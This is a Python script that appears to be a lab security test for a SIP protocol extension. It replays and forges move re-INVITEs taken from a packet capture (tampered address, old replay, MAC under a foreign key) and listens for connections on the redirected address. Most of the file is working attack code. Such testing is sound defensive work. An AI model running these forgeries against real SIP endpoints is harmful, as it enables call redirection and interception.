#!/usr/bin/env python3
"""Forged and replayed move re-INVITEs, sent from the lab's spare host.

  sipattack.py PCAP --to IP --spare IP MODE...

Reads the genuine move re-INVITEs sent to IP (INVITEs with a To tag and an
`a=wisp-move` attribute) from PCAP, a capture in pcap format (tshark -F
pcap; Ethernet, Linux cooked v1/v2 or raw IP; one SIP message per UDP
datagram or TCP segment), then for each MODE sends one re-INVITE to the
same SIP address and transport, from this host:

  tamper   the latest genuine re-INVITE with its c= (and o=) address
           changed to the spare host; move number and MAC as captured,
           nothing recomputed.
  replay   the earliest genuine re-INVITE, body untouched (an old move,
           already taken).
  foreign  the latest genuine re-INVITE pointing at the spare host, with
           the next move number (the one the peer would accept) and a
           well-formed MAC made under a key of the attacker's own.

Every forged request is a new transaction of the dialog, as an attacker
would make it: a Via of its own (fresh branch, rport, so the answer comes
here), a CSeq above every captured one, Content-Length recomputed. The MAC
covers none of these.

While it runs it listens on the spare host at the port the forged offers
advertise, where a fooled peer would connect.

stdout:
  genuine K move=N cseq=C addr=IP:PORT transport=T to=IP:PORT
  forged MODE: move=N addr=IP:PORT cseq=C
  attack MODE status CODE REASON      (CODE "none": no final answer in 8 s)
  spy connections=N bytes=M
Exit status 2 if the capture holds no genuine re-INVITE to IP.
"""

import argparse
import base64
import hashlib
import hmac
import os
import socket
import struct
import sys
import threading
import time

COMPACT = {
    "v": "via",
    "i": "call-id",
    "l": "content-length",
    "f": "from",
    "t": "to",
    "m": "contact",
    "c": "content-type",
    "k": "supported",
}


def say(line):
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


# ---------------------------------------------------------------- capture


def packets(path):
    """(time, src, dst, proto, sport, dport, payload) of every IP packet."""
    data = open(path, "rb").read()
    magic = data[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        e = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        e = ">"
    else:
        sys.exit(f"{path}: not a pcap file (capture with tshark -F pcap)")
    (linktype,) = struct.unpack(e + "I", data[20:24])
    off = 24
    while off + 16 <= len(data):
        sec, frac, incl, _ = struct.unpack(e + "IIII", data[off : off + 16])
        frame = data[off + 16 : off + 16 + incl]
        off += 16 + incl
        ip = link_payload(linktype, frame)
        if ip is not None:
            pkt = ip_payload(ip)
            if pkt is not None:
                yield (sec + frac / 1e6,) + pkt


def link_payload(linktype, f):
    if linktype == 1 and len(f) >= 14:  # Ethernet
        kind, body = f[12:14], f[14:]
    elif linktype == 113 and len(f) >= 16:  # Linux cooked v1
        kind, body = f[14:16], f[16:]
    elif linktype == 276 and len(f) >= 20:  # Linux cooked v2
        kind, body = f[0:2], f[20:]
    elif linktype in (12, 101, 228, 229):  # raw IP
        return f
    else:
        return None
    return body if kind in (b"\x08\x00", b"\x86\xdd") else None


def ip_payload(p):
    if len(p) >= 20 and p[0] >> 4 == 4:
        ihl = (p[0] & 15) * 4
        total = struct.unpack(">H", p[2:4])[0]
        frag = struct.unpack(">H", p[6:8])[0]
        if frag & 0x3FFF:  # a fragment: not ours to reassemble
            return None
        proto, src, dst, body = p[9], socket.inet_ntoa(p[12:16]), socket.inet_ntoa(p[16:20]), p[ihl:total]
    elif len(p) >= 40 and p[0] >> 4 == 6:
        plen = struct.unpack(">H", p[4:6])[0]
        proto = p[6]
        src = socket.inet_ntop(socket.AF_INET6, p[8:24])
        dst = socket.inet_ntop(socket.AF_INET6, p[24:40])
        body = p[40 : 40 + plen]
    else:
        return None
    if proto == 17 and len(body) >= 8:
        sport, dport = struct.unpack(">HH", body[:4])
        return src, dst, "UDP", sport, dport, body[8:]
    if proto == 6 and len(body) >= 20:
        sport, dport = struct.unpack(">HH", body[:4])
        return src, dst, "TCP", sport, dport, body[(body[12] >> 4) * 4 :]
    return None


# -------------------------------------------------------------------- SIP


def canon(name):
    n = name.strip().lower()
    return COMPACT.get(n, n)


def parse(raw):
    """(start line, [(name, value)], body) or None."""
    if b"\r\n\r\n" not in raw:
        return None
    head, body = raw.split(b"\r\n\r\n", 1)
    lines = head.decode("utf-8", "replace").split("\r\n")
    headers = []
    for line in lines[1:]:
        if line[:1] in (" ", "\t") and headers:  # folded
            headers[-1] = (headers[-1][0], headers[-1][1] + " " + line.strip())
        elif ":" in line:
            n, v = line.split(":", 1)
            headers.append((n.strip(), v.strip()))
    msg = (lines[0], headers, body)
    length = header(msg, "content-length")
    if length is not None and length.isdigit():
        msg = (lines[0], headers, body[: int(length)])
    return msg


def header(msg, name):
    for n, v in msg[1]:
        if canon(n) == name:
            return v
    return None


def branch_of(via):
    for part in via.split(";")[1:]:
        k, _, v = part.partition("=")
        if k.strip().lower() == "branch":
            return v.strip()
    return ""


def sdp_lines(body):
    return body.decode("utf-8", "replace").split("\r\n")


def sdp_attr(body, name):
    for line in sdp_lines(body):
        if line.startswith(f"a={name}:"):
            return line.split(":", 1)[1]
    return None


def sdp_addr(body):
    ip = port = None
    for line in sdp_lines(body):
        if line.startswith("c=IN IP"):
            ip = line.split()[-1]
        elif line.startswith("m="):
            port = int(line.split()[1])
    return ip, port


def edit_sdp(body, ip=None, move=None, mac=None):
    out = []
    for line in sdp_lines(body):
        if ip and line.startswith("c=IN IP"):
            line = f"c=IN IP4 {ip}"
        elif ip and line.startswith("o="):
            parts = line.split(" ")
            if len(parts) == 6:
                parts[4:6] = ["IP4", ip]
                line = " ".join(parts)
        elif move is not None and line.startswith("a=wisp-move:"):
            line = f"a=wisp-move:{move}"
        elif mac is not None and line.startswith("a=wisp-mac:"):
            line = f"a=wisp-mac:{mac}"
        out.append(line)
    return "\r\n".join(out).encode()


def build(msg, body, transport, local, branch, cseq):
    start, headers, _ = msg
    out = [start, f"Via: SIP/2.0/{transport} {local[0]}:{local[1]};branch={branch};rport"]
    for n, v in headers:
        c = canon(n)
        if c in ("via", "content-length"):
            continue
        if c == "cseq":
            v = f"{cseq} {v.split()[1]}"
        out.append(f"{n}: {v}")
    out.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(out) + "\r\n\r\n").encode() + body


def ack_for(req, resp):
    """The ACK of a non-2xx final answer: same branch, the answer's To."""
    start, headers, _ = req
    method_uri = start.split()[1]
    cseq = header(req, "cseq").split()[0]
    out = [f"ACK {method_uri} SIP/2.0", f"Via: {header(req, 'via')}", "Max-Forwards: 70"]
    out += [f"From: {header(req, 'from')}", f"To: {header(resp, 'to')}"]
    out += [f"Call-ID: {header(req, 'call-id')}", f"CSeq: {cseq} ACK", "Content-Length: 0"]
    return ("\r\n".join(out) + "\r\n\r\n").encode()


class Channel:
    """One transaction's transport to the target: a UDP socket or a TCP
    connection, and the messages that come back."""

    def __init__(self, transport, spare, target):
        self.transport = transport
        self.target = target
        if transport == "UDP":
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.sock.bind((spare, 0))
        else:
            self.sock = socket.create_connection(target, timeout=5, source_address=(spare, 0))
        self.local = self.sock.getsockname()
        self.buf = b""

    def send(self, data):
        if self.transport == "UDP":
            self.sock.sendto(data, self.target)
        else:
            self.sock.sendall(data)

    def recv(self, timeout):
        self.sock.settimeout(max(timeout, 0.01))
        try:
            if self.transport == "UDP":
                return [self.sock.recv(65535)]
            chunk = self.sock.recv(65535)
        except (socket.timeout, BlockingIOError):
            return []
        self.buf += chunk
        msgs = []
        while b"\r\n\r\n" in self.buf:
            head, rest = self.buf.split(b"\r\n\r\n", 1)
            m = parse(head + b"\r\n\r\n")
            length = int(header(m, "content-length") or 0) if m else 0
            if len(rest) < length:
                break
            msgs.append(head + b"\r\n\r\n" + rest[:length])
            self.buf = rest[length:]
        return msgs

    def close(self):
        self.sock.close()


def transact(ch, req_bytes, branch):
    """Send an INVITE, retransmitting over UDP until a provisional answer;
    return the final answer (parsed) or None after 8 s."""
    deadline = time.monotonic() + 8
    ch.send(req_bytes)
    interval = 0.5
    resend_at = time.monotonic() + interval if ch.transport == "UDP" else deadline
    provisional = False
    while time.monotonic() < deadline:
        now = time.monotonic()
        if now >= resend_at:
            if not provisional:
                ch.send(req_bytes)
            interval *= 2
            resend_at = now + interval
        for raw in ch.recv(min(resend_at, deadline) - time.monotonic()):
            m = parse(raw)
            if not m or not m[0].startswith("SIP/2.0 "):
                continue
            via = header(m, "via") or ""
            if branch_of(via) != branch:
                continue
            code = int(m[0].split()[1])
            if code < 200:
                provisional = True
                continue
            return m
    return None


class Spy:
    """A TCP listener at the address the forged offers advertise."""

    def __init__(self, ip, port):
        self.connections = 0
        self.bytes = 0
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((ip, port))
        self.sock.listen(16)
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            conn, peer = self.sock.accept()
            self.connections += 1
            say(f"spy: connection from {peer[0]}:{peer[1]}")
            threading.Thread(target=self.drain, args=(conn,), daemon=True).start()

    def drain(self, conn):
        conn.settimeout(5)
        try:
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                self.bytes += len(data)
        except OSError:
            pass


def main():
    p = argparse.ArgumentParser()
    p.add_argument("pcap")
    p.add_argument("--to", required=True, help="the SIP host the genuine re-INVITEs went to")
    p.add_argument("--spare", required=True, help="this host's address")
    p.add_argument("modes", nargs="+", choices=["tamper", "replay", "foreign"])
    a = p.parse_args()

    genuine, seen = [], set()
    for t, _src, dst, transport, _sport, dport, payload in packets(a.pcap):
        if dst != a.to or not payload.startswith(b"INVITE "):
            continue
        m = parse(payload)
        if not m or "tag=" not in (header(m, "to") or "") or sdp_attr(m[2], "wisp-move") is None:
            continue
        key = (header(m, "call-id"), header(m, "cseq"))
        if key in seen:  # the same request seen on the way in and out
            continue
        seen.add(key)
        genuine.append((t, m, transport, (dst, dport)))
    if not genuine:
        say(f"no genuine re-INVITE to {a.to} in {a.pcap}")
        sys.exit(2)
    genuine.sort(key=lambda g: int(sdp_attr(g[1][2], "wisp-move")))
    for k, (_, m, transport, target) in enumerate(genuine):
        ip, port = sdp_addr(m[2])
        say(
            f"genuine {k} move={sdp_attr(m[2], 'wisp-move')} cseq={header(m, 'cseq')!r} "
            f"addr={ip}:{port} transport={transport} to={target[0]}:{target[1]}"
        )
    first, last = genuine[0], genuine[-1]
    top_move = int(sdp_attr(last[1][2], "wisp-move"))
    cseq = max(int(header(g[1], "cseq").split()[0]) for g in genuine)
    spy = Spy(a.spare, sdp_addr(last[1][2])[1])

    for mode in a.modes:
        _, msg, transport, target = first if mode == "replay" else last
        body = msg[2]
        if mode == "tamper":
            body = edit_sdp(body, ip=a.spare)
        elif mode == "foreign":
            move = top_move + 1
            port = sdp_addr(body)[1]
            text = f"{header(msg, 'call-id')}|{move}|{a.spare}:{port}".encode()
            mac = base64.b64encode(hmac.new(os.urandom(32), text, hashlib.sha256).digest()).decode()
            body = edit_sdp(body, ip=a.spare, move=move, mac=mac)
        cseq += 1
        branch = "z9hG4bK-attack-" + os.urandom(6).hex()
        ch = Channel(transport, a.spare, target)
        req = build(msg, body, transport, ch.local, branch, cseq)
        ip, port = sdp_addr(body)
        say(f"forged {mode}: move={sdp_attr(body, 'wisp-move')} addr={ip}:{port} cseq={cseq}")
        resp = transact(ch, req, branch)
        if resp is None:
            say(f"attack {mode} status none")
        else:
            code = int(resp[0].split()[1])
            if code >= 300:
                ch.send(ack_for(parse(req), resp))
            parts = resp[0].split(" ", 2)
            say(f"attack {mode} status {code} {parts[2] if len(parts) > 2 else ''}".rstrip())
        ch.close()
    # A fooled peer would connect at once; give it time to.
    time.sleep(3)
    say(f"spy connections={spy.connections} bytes={spy.bytes}")


if __name__ == "__main__":
    main()
